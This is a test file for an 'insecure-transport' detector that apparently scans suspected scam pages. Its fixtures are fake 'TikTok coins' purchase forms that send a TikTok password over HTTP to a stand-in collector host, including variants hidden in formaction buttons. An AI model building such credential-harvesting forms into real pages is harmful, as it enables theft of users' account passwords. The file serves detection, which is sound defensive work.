import { describe, expect, test } from 'vitest';
import { insecureTransport } from '../../../src/detectors/insecure-transport';
import { idsOf, page, runDetector } from './helpers';

const ID_FORM = (action: string) => `<h1>TikTok coins</h1><form action="${action}" method="post"><label>TikTok username <input name="u"></label><button>Buy</button></form>`;
const PW_FORM = (action: string) => `<h1>TikTok coins</h1><form action="${action}" method="post"><label>TikTok username <input name="u"></label><label>TikTok password <input type="password" name="p"></label><button>Buy</button></form>`;

const cases: [string, string, string, string[]][] = [
  ['http page with a username form (page-level only)', ID_FORM('/order'), 'http://coins.example/', ['insecure-transport']],
  ['http page with a password form', PW_FORM('/order'), 'http://coins.example/', ['insecure-transport', 'insecure-transport-form']],
  ['https page, password posted to another site over http', PW_FORM('http://collector.example/p.php'), 'https://coins.example/', ['insecure-transport-form']],
  ['https page, any form posted over http (mixed form)', ID_FORM('http://coins.example/order'), 'https://coins.example/', ['insecure-transport-form']],
  ['http page, username form posted to another http site', ID_FORM('http://other.example/x'), 'http://coins.example/', ['insecure-transport', 'insecure-transport-form']],
  ['https throughout', PW_FORM('/order'), 'https://coins.example/', ['https-throughout']],
  ['https page, form posts to another https site', ID_FORM('https://pay.example/checkout'), 'https://coins.example/', ['https-throughout']],
  ['a search box posting to http elsewhere sends only a query', `<h1>TikTok coins</h1><form action="http://search.example/"><input name="q"></form><form action="/o"><label>TikTok username <input name="u"></label></form>`, 'https://coins.example/', ['https-throughout']],
  ['localhost is a developer machine', ID_FORM('/order'), 'http://localhost:8080/', []],
  [
    'https form whose buy button posts the password over http elsewhere (formaction)',
    PW_FORM('/order').replace('<button>Buy</button>', '<button formaction="http://collector.example/p.php">Buy</button>'),
    'https://coins.example/',
    ['insecure-transport-form'],
  ],
  ['an <input type=submit> with an http formaction', ID_FORM('/order').replace('<button>Buy</button>', '<input type="submit" value="Buy" formaction="http://coins.example/o">'), 'https://coins.example/', ['insecure-transport-form']],
  ['a second, plain submit button does not make it safe', PW_FORM('/order').replace('<button>Buy</button>', '<button>Save</button><button formaction="http://collector.example/">Buy</button>'), 'https://coins.example/', ['insecure-transport-form']],
  ['a button outside the form, tied to it with form=', `<h1>TikTok coins</h1><form id="f" action="/order"><label>TikTok password <input type="password" name="p"></label></form><button form="f" formaction="http://collector.example/">Buy</button>`, 'https://coins.example/', ['insecure-transport-form']],
  ['a formaction on a plain button (type=button) submits nothing', PW_FORM('/order').replace('<button>Buy</button>', '<button type="button" formaction="http://collector.example/">Help</button><button>Buy</button>'), 'https://coins.example/', ['https-throughout']],
  ['a formaction to another https page keeps it https', PW_FORM('/order').replace('<button>Buy</button>', '<button formaction="https://pay.example/checkout">Buy</button>'), 'https://coins.example/', ['https-throughout']],
  ['a form with nothing to type sends nothing', `<h1>TikTok coins</h1><form action="http://x.example/"><button>Go</button></form><p><input name="q"></p>`, 'https://coins.example/', ['https-throughout']],
];

describe('insecure-transport', () => {
  test.each(cases)('%s', async (_n, body, url, ids) => {
    expect(await idsOf(insecureTransport, page(body), url)).toEqual(ids);
  });

  test('the evidence names the button and where it sends the password', async () => {
    const body = PW_FORM('/order').replace('<button>Buy</button>', '<button formaction="http://collector.example/p.php">Buy</button>');
    const hits = await runDetector(insecureTransport, page(body), 'https://coins.example/');
    expect(hits[0]?.evidence[0]?.text).toBe('a button of this form sends your password or code unencrypted to http://collector.example/p.php (another site)');
  });
});
